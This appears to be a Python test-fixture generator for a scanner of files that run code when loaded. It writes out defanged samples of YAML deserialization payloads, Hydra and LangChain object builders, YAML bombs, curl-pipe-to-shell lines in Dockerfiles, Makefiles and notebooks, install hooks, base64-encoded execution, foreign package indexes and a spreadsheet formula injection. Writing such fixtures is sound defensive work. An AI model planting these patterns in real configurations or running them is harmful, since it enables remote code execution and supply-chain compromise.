"""Texts that their readers obey: YAML that builds objects, recipes and scripts that run programs, settings that fetch.

Source: PyYAML's constructors, OmegaConf and Hydra (`instantiate`), HyperPyYAML, the Dockerfile reference, pip's
requirements file format, Python's site module.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from hostile_units import Class, Unit


def units() -> Iterator[Unit]:
    """All of them."""
    yield from _yaml_objects()
    yield from _targets()
    yield from _yaml_bombs()
    yield from _scripts()


def _yaml_objects() -> Iterator[Unit]:
    documents = {
        "apply": "model: !!python/object/apply:os.getpid []\n",
        "apply-system": 'model: !!python/object/apply:os.system ["echo planted >/dev/null"]\n',
        "apply-mapping": "model: !!python/object/apply:subprocess.getoutput\n  args: [echo planted]\n",
        "new": 'model: !!python/object/new:subprocess.Popen [["true"]]\n',
        "object": "model: !!python/object:subprocess.Popen {}\n",
        "name": "model: !!python/name:os.system\n",
        "module": "model: !!python/module:planted_module\n",
        "verbatim-tag": "model: !<tag:yaml.org,2002:python/object/apply:os.getpid> []\n",
        "tag-directive": "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nmodel: !p!os.getpid []\n",
        "escaped-tag": "model: !!python%2Fobject/apply:os.getpid []\n",
        "flow": '{"model": !!python/object/apply:os.getpid []}\n',
        "in-list": "- a\n- - b\n  - !!python/object/apply:os.getpid []\n",
        "as-key": "? !!python/object/apply:os.getpid []\n: 1\n",
        "anchored": "a: &x !!python/object/apply:os.getpid []\nb: *x\n",
        "second-document": "a: 1\n---\nb: !!python/object/apply:os.getpid []\n",
        "extend": "model: !!python/object/new:collections.deque\n  listitems: "
        "!!python/object/new:map [!!python/name:os.system , ['echo planted']]\n",
        "state": "model: !!python/object/new:argparse.Namespace\n  state: !!python/object/apply:os.getpid []\n",
        "tuple-eval": "model: !!python/object/new:tuple\n- !!python/object/new:map\n"
        "  - !!python/name:eval\n  - ['1 + 1']\n",
        "merge": "base: &b !!python/object/apply:builtins.dict\n  kwds: "
        "{a: !!python/object/apply:os.getpid []}\nm:\n  <<: *b\n",
        "hidden-far": "# configuration\n"
        + "".join(f"key{n}: {n}\n" for n in range(5000))
        + "z: !!python/object/apply:os.getpid []\n",
        "ruby": "--- !ruby/object:Gem::Installer\ni: x\n",
        "java": "model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://127.0.0.1:9/']]]]\n",
        "hyperpyyaml-apply": "model: !apply:os.system ['echo planted']\n",
        "hyperpyyaml-new": "model: !new:subprocess.Popen\n  args: [true]\n",
        "hyperpyyaml-name": "model: !name:os.system\n",
        "hyperpyyaml-module": "model: !module:planted_module\n",
    }
    acting = {"apply", "verbatim-tag", "tag-directive", "flow", "in-list", "as-key", "anchored", "state", "hidden-far"}
    for way, text in documents.items():
        reader = "hyperpyyaml.load_hyperpyyaml" if way.startswith("hyper") else "yaml.unsafe_load"
        load = "yaml" if way in acting else ""
        yield Unit(
            f"yaml/{way}.yaml",
            text.encode(),
            "code",
            "yaml",
            f"the document builds objects or calls functions ({way})",
            reader,
            "a tag that builds objects",
            load,
            "os:getpid" if load else "",
        )
    for name in ("MLmodel", "conda.yaml", "model.yml", "config.json", "hparams"):
        yield Unit(
            f"yaml/named/{name}",
            documents["apply"].encode(),
            "code",
            "yaml",
            f"the same, called {name}",
            "yaml.unsafe_load",
            "a tag that builds objects",
        )
    utf16 = documents["apply"].encode("utf-16")
    yield Unit(
        "yaml/utf16.yaml",
        utf16,
        "code",
        "yaml",
        "the same in UTF-16",
        "yaml.unsafe_load",
        "a tag that builds objects",
        "yaml",
        "os:getpid",
    )
    mlflow = (
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: "
        "planted_module\n    code: code\n    python_version: 3.11\n"
    )
    yield Unit(
        "yaml/loader/MLmodel",
        mlflow.encode(),
        "code",
        "yaml",
        "an MLflow model names a module that is imported to load it",
        "mlflow.pyfunc.load_model",
        "foreign loader module",
    )


def _targets() -> Iterator[Unit]:
    targets: dict[str, Any] = {
        "os-system": {"model": {"_target_": "os.system", "command": "echo planted"}},
        "eval": {"model": {"_target_": "builtins.eval", "_args_": ["1 + 1"]}},
        "popen": {"model": {"_target_": "subprocess.Popen", "args": ["true"]}},
        "get-method": {"model": {"_target_": "hydra.utils.get_method", "path": "os.system"}},
        "get-class": {"model": {"_target_": "hydra.utils.get_class", "path": "subprocess.Popen"}},
        "call": {"model": {"_target_": "hydra.utils.call", "config": {"_target_": "os.getpid"}}},
        "partial": {"model": {"_target_": "os.system", "_partial_": True}},
        "nested": {"trainer": {"callbacks": [{"a": [{"_target_": "os.getpid"}]}]}},
        "deep-attribute": {"model": {"_target_": "torch.nn.modules.module.torch.os.system"}},
        "torch-load": {"model": {"_target_": "torch.load", "f": "/nonexistent/planted"}},
        "unknown-module": {"model": {"_target_": "planted_module.Planted"}},
        "exec-import": {"model": {"_target_": "importlib.import_module", "name": "planted_module"}},
        "write": {"model": {"_target_": "pathlib.Path.write_text", "_args_": ["/nonexistent/planted", "x"]}},
        "object-key": {"model": {"_target_": "hydra.utils.get_object", "path": "os.system"}},
    }
    for way, document in targets.items():
        yield Unit(
            f"yaml/target-{way}.yaml",
            _block(document).encode(),
            "code",
            "yaml",
            f"hydra.utils.instantiate calls what _target_ says ({way})",
            "hydra.utils.instantiate",
            "_target_ outside the reviewed ones",
        )
    for way in ("os-system", "nested"):
        yield Unit(
            f"json/target-{way}.json",
            json.dumps(targets[way]).encode(),
            "code",
            "json",
            f"hydra.utils.instantiate calls what _target_ says ({way}), in JSON",
            "hydra.utils.instantiate",
            "_target_ outside the reviewed ones",
        )
    old = {"model": {"class_path": "subprocess.Popen", "init_args": {"args": ["true"]}}}
    yield Unit(
        "yaml/class-path.yaml",
        _block(old).encode(),
        "code",
        "yaml",
        "jsonargparse builds what class_path says",
        "LightningCLI",
        "class_path outside the reviewed ones",
    )
    pickled = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo planted"]}]}
    yield Unit(
        "json/jsonpickle.json",
        json.dumps({"model": pickled}).encode(),
        "code",
        "json",
        "jsonpickle calls what py/reduce says",
        "jsonpickle.decode",
        "jsonpickle object",
    )
    langchain = {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": ["true"]}}
    yield Unit(
        "json/langchain.json",
        json.dumps(langchain).encode(),
        "code",
        "json",
        "LangChain's loader builds what id says",
        "langchain.load.loads",
        "constructor outside the reviewed ones",
    )
    resolvers = {
        "custom": "a: ${planted:1}\n",
        "eval": 'a: ${eval:"1 + 1"}\n',
    }
    for way, text in resolvers.items():
        yield Unit(
            f"yaml/resolver-{way}.yaml",
            text.encode(),
            "code",
            "yaml",
            f"an interpolation calls a resolver ({way})",
            "omegaconf",
            "interpolation by a resolver",
        )


def _block(value: Any, depth: int = 0) -> str:
    """Block style YAML of plain mappings, lists and texts."""
    pad = "  " * depth
    if isinstance(value, dict):
        return "".join(
            f"{pad}{key}:"
            + (f" {json.dumps(part)}\n" if not isinstance(part, dict | list) else "\n" + _block(part, depth + 1))
            for key, part in value.items()
        )
    return "".join(
        f"{pad}- " + (_block(part, depth + 1).lstrip() if isinstance(part, dict) else json.dumps(part) + "\n")
        for part in value
    )


def _yaml_bombs() -> Iterator[Unit]:
    laughs = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    yield Unit(
        "yaml/billion-laughs.yaml",
        laughs.encode(),
        "resource",
        "yaml",
        "aliases that grow ninefold eleven times",
        "yaml.safe_load, then a walk",
        "alias expansion",
    )
    yield Unit(
        "yaml/nesting.yaml",
        b"[" * 50_000 + b"]" * 50_000,
        "resource",
        "yaml",
        "lists nested 50,000 deep",
        "yaml.safe_load",
        "nesting",
    )
    yield Unit(
        "json/nesting.json",
        b"[" * 200_000 + b"]" * 200_000,
        "resource",
        "json",
        "lists nested 200,000 deep",
        "json.loads",
        "nesting",
    )
    yield Unit(
        "json/digits.json",
        b'{"a": ' + b"9" * 500_000 + b"}",
        "resource",
        "json",
        "a number of 500,000 digits",
        "json.loads",
        "number of absurd length",
    )
    yield Unit(
        "json/duplicate-keys.json",
        b'{"model_type": "bert", "auto_map": {}, "auto_map": {"AutoModel": "planted--planted.P"}}',
        "code",
        "json",
        "a key twice; the second names foreign code",
        "transformers",
        "duplicate key; foreign code",
    )


def _scripts() -> Iterator[Unit]:
    texts: dict[str, tuple[str, str, str]] = {
        "docker-curl/Dockerfile": (
            "FROM python:3.11\nRUN curl -s http://127.0.0.1:9/planted | sh\n",
            "dockerfile",
            "fetches a script and runs it",
        ),
        "docker-wget/Dockerfile": (
            "FROM python:3.11\nRUN wget -qO- http://127.0.0.1:9/planted \\\n  | bash\n",
            "dockerfile",
            "the same over two lines",
        ),
        "docker-add/Dockerfile": (
            "FROM python:3.11\nADD http://127.0.0.1:9/planted /usr/bin/planted\nRUN planted\n",
            "dockerfile",
            "adds a program from a URL",
        ),
        "docker-pip/Dockerfile": (
            "FROM python:3.11\nRUN pip install --index-url http://127.0.0.1:9/simple planted\n",
            "dockerfile",
            "installs from a foreign index",
        ),
        "docker-python/Dockerfile": (
            "FROM python:3.11\nRUN python -c \"import urllib.request as u; exec(u.urlopen('http://127.0.0.1:9/planted').read())\"\n",
            "dockerfile",
            "fetches Python and runs it",
        ),
        "setup/setup.py": (
            "import os\nfrom setuptools import setup\n\nos.system('echo planted')\nsetup(name='planted')\n",
            "python",
            "installation runs a program",
        ),
        "setup-cmdclass/setup.py": (
            "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass I(install):\n  "
            "  def run(self):\n        __import__('subprocess').call(['true'])\n\n\nsetup(cmdclass={'install': I})\n",
            "python",
            "an installation command runs a program",
        ),
        "exec-base64/load.py": (
            "import base64\nexec(base64.b64decode('cHJpbnQoInBsYW50ZWQiKQ=='))\n",
            "python",
            "runs code that is encoded",
        ),
        "import-hook/load.py": (
            "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo planted')\n",
            "python",
            "names are put together at run time",
        ),
        "socket/load.py": (
            "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nimport os\nos.dup2(s.fileno(), 0)\n",
            "python",
            "a connection becomes the input",
        ),
        "url-exec/load.py": (
            "from urllib.request import urlopen\nexec(urlopen('http://127.0.0.1:9/planted').read())\n",
            "python",
            "runs code from the network",
        ),
        "ctypes/load.py": ("import ctypes\nctypes.CDLL('./libplanted.so').planted()\n", "python", "loads a library"),
        "pickle/load.py": (
            "import pickle\nmodel = pickle.load(open('model.bin', 'rb'))\n",
            "python",
            "unpickles a file",
        ),
        "site/planted.pth": ("import os; os.getpid()\n", "site path file", "Python's start runs the line"),
        "shell/install.sh": (
            "#!/bin/bash\ncurl -fsSL http://127.0.0.1:9/planted | bash\n",
            "script",
            "fetches a script and runs it",
        ),
        "shell-base64/run.sh": (
            "#!/bin/sh\necho ZWNobyBwbGFudGVk | base64 -d | sh\n",
            "script",
            "runs commands that are encoded",
        ),
        "make/Makefile": (
            "all:\n\tcurl -s http://127.0.0.1:9/planted | sh\n",
            "makefile",
            "fetches a script and runs it",
        ),
        "node/package.json": (
            '{"name": "planted", "version": "1.0.0", "scripts": {"preinstall": '
            '"node -e \\"console.log(1)\\"; curl http://127.0.0.1:9 | sh"}}\n',
            "json",
            "installation runs a command",
        ),
        "requirements-index/requirements.txt": (
            "--index-url http://127.0.0.1:9/simple\ntorch\n",
            "requirements",
            "packages come from a foreign index",
        ),
        "requirements-extra/requirements.txt": (
            "--extra-index-url https://planted.invalid/simple\ncompany-internal-package\n",
            "requirements",
            "a second index may answer for internal names",
        ),
        "requirements-git/requirements.txt": (
            "numpy\nplanted @ git+https://planted.invalid/planted.git\n",
            "requirements",
            "a package from a repository",
        ),
        "requirements-url/requirements.txt": (
            "https://planted.invalid/planted-1.0-py3-none-any.whl\n",
            "requirements",
            "a package from a URL",
        ),
        "requirements-path/requirements.txt": (
            "-e ./planted\n--trusted-host planted.invalid\n",
            "requirements",
            "a package from the folder; a host without certificates",
        ),
        "pyproject/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "planted_backend"\nbackend-path = ["."]\n',
            "toml",
            "installation imports a module of the folder",
        ),
        "dvc/dvc.yaml": (
            "stages:\n  train:\n    cmd: curl http://127.0.0.1:9/planted | sh\n",
            "yaml",
            "reproducing runs a command",
        ),
        "workflow/action.yml": (
            "runs:\n  using: composite\n  steps:\n    - run: curl http://127.0.0.1:9/planted | sh\n      shell: bash\n",
            "yaml",
            "the workflow runs a command",
        ),
        "ollama/Modelfile": (
            'FROM ./model.gguf\nADAPTER ../../planted.gguf\nTEMPLATE "{{ .Prompt }}"\n',
            "text",
            "reads a file above",
        ),
        "csv/data.csv": ("name,value\n=cmd|'/c echo planted'!A0,1\n", "csv", "a spreadsheet runs the cell"),
    }
    for path, (text, format_, does) in texts.items():
        kind: Class = (
            "integrity"
            if path.startswith(
                ("csv", "ollama", "requirements-git", "requirements-url", "requirements-path", "pickle/")
            )
            else "code"
        )
        yield Unit(f"scripts/{path}", text.encode(), kind, format_, does, "whoever runs, installs or opens it", does)
    cells = {
        "shell": "!curl -s http://127.0.0.1:9/planted | sh",
        "cell-magic": "%%bash\nwget -qO- http://127.0.0.1:9/planted | sh",
        "os-system": "import os\nos.system('echo planted')",
        "get-ipython": "get_ipython().system('curl http://127.0.0.1:9/planted | sh')",
    }
    for way, source in cells.items():
        notebook = {
            "cells": [
                {
                    "cell_type": "code",
                    "execution_count": None,
                    "metadata": {},
                    "outputs": [],
                    "source": source.splitlines(True),
                }
            ],
            "metadata": {},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
        yield Unit(
            f"scripts/notebook-{way}/demo.ipynb",
            json.dumps(notebook).encode(),
            "code",
            "notebook",
            f"a cell runs a program ({way})",
            "Jupyter",
            "a cell that runs a program",
        )
    output = {
        "cells": [
            {
                "cell_type": "code",
                "execution_count": 1,
                "metadata": {},
                "source": ["1"],
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": ["<script>planted()</script>"]},
                    }
                ],
            }
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    yield Unit(
        "scripts/notebook-output/demo.ipynb",
        json.dumps(output).encode(),
        "integrity",
        "notebook",
        "a cell's output carries a script",
        "Jupyter, when trusted",
        "script in an output",
    )
